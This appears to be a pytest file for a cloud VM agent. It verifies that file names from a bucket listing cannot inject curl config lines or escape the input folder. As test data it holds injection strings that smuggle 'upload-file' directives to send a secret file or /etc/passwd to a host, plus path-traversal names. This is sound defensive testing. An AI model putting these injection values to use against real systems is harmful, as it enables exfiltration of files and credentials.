"""Input file names from a bucket listing on the node (gpucloud/vm/agent/names.py, data.py): a name
that would be a second line of curl's config, or a path out of the input folder, is refused before
curl runs; every other name, quotes and '#' included, is copied as it is. Against a local HTTP
server that serves GETs and records anything sent to it (an upload is what the injected config does)."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from gpucloud.vm.agent import data
from gpucloud.vm.agent.names import curl_quoted, path_problem, under
from gpucloud.vm.agent.stage_api import StageFailed
from gpucloud.vm.agent.transfer import Transfer


class Store:
    def __init__(self, url: str) -> None:
        self.url = url
        self.sent: list[str] = []  # "METHOD path" of every upload it received


@pytest.fixture
def store() -> Iterator[Store]:
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's name)
            body = b"A" * 100
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _upload(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            seen.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_PUT = do_POST = _upload

        def log_message(self, *args: object) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    s = Store(f"http://127.0.0.1:{srv.server_port}")
    s.sent = seen
    yield s
    srv.shutdown()


def test_a_key_with_newlines_never_becomes_curl_config(tmp_path: Path, store: Store) -> None:
    """The reviewer's key: before the check the node uploaded the file to the named host."""
    secret = tmp_path / "secret.txt"
    secret.write_text("do not send\n")
    hostile = f"a\nupload-file = {secret}\nurl = {store.url}/stolen"
    doc = {
        "inputs": [
            {
                "dest": "d",
                "files": [
                    {"rel": "ok.bin", "url": f"{store.url}/ok.bin", "size": 100},
                    {"rel": hostile, "url": f"{store.url}/x.bin", "size": 100},
                ],
            }
        ]
    }
    with pytest.raises(StageFailed, match=r"refused \(a control character.*a\\nupload-file"):
        data.fetch_inputs(doc, tmp_path / "job", Transfer(), lambda line: None)
    assert store.sent == []
    assert not (tmp_path / "job").exists()  # refused before anything was written


@pytest.mark.parametrize("rel", ["../x", "a/../../x", "/etc/x", "a//b", "./a", "a/.", "a\\..\\b", "a\x00b", "a\rb"])
def test_names_that_leave_the_input_folder_are_refused(tmp_path: Path, store: Store, rel: str) -> None:
    doc = {"inputs": [{"dest": "d", "files": [{"rel": rel, "url": f"{store.url}/x", "size": 100}]}]}
    with pytest.raises(StageFailed, match="input file name refused"):
        data.fetch_inputs(doc, tmp_path / "job", Transfer(), lambda line: None)
    assert path_problem(rel)
    assert not any(p.is_file() for p in tmp_path.rglob("*")) and store.sent == []


def test_a_link_inside_the_input_folder_cannot_lead_out(tmp_path: Path, store: Store) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "job" / "d").mkdir(parents=True)
    (tmp_path / "job" / "d" / "link").symlink_to(outside)
    doc = {"inputs": [{"dest": "d", "files": [{"rel": "link/f", "url": f"{store.url}/x", "size": 100}]}]}
    with pytest.raises(StageFailed, match="leads out of the input's folder"):
        data.fetch_inputs(doc, tmp_path / "job", Transfer(), lambda line: None)
    assert list(outside.iterdir()) == []
    assert under(str(tmp_path / "job" / "d"), "sub/f").endswith("/job/d/sub/f")


def test_quotes_and_hashes_in_names_are_copied_as_they_are(tmp_path: Path, store: Store) -> None:
    names = ['we"ird #1 name.bin', "sp ace/ü-ñ.bin", "url = x.bin", "-K.bin"]
    files = [{"rel": n, "url": f"{store.url}/{i}", "size": 100} for i, n in enumerate(names)]
    assert data.fetch_inputs({"inputs": [{"dest": "d", "files": files}]}, tmp_path, Transfer(), print) == (4, 400)
    for n in names:
        assert (tmp_path / "d" / n).read_bytes() == b"A" * 100
    assert store.sent == []


def test_curl_config_values_are_quoted_and_controls_refused(tmp_path: Path) -> None:
    assert curl_quoted('a"b\\c') == '"a\\"b\\\\c"'
    for bad in ("a\nb", "a\rb", "a\x00b", "a\tb"):
        with pytest.raises(ValueError):
            curl_quoted(bad)
    with pytest.raises(StageFailed, match="control character"):
        data.curl_config([("http://x/a\nupload-file = /etc/passwd", tmp_path / "f", 1)])
    text = data.curl_config([('http://x/"q"', tmp_path / 'o"ut', 1)])
    assert text.splitlines() == ['url = "http://x/\\"q\\""', f'output = "{tmp_path}/.o\\"ut.part"']
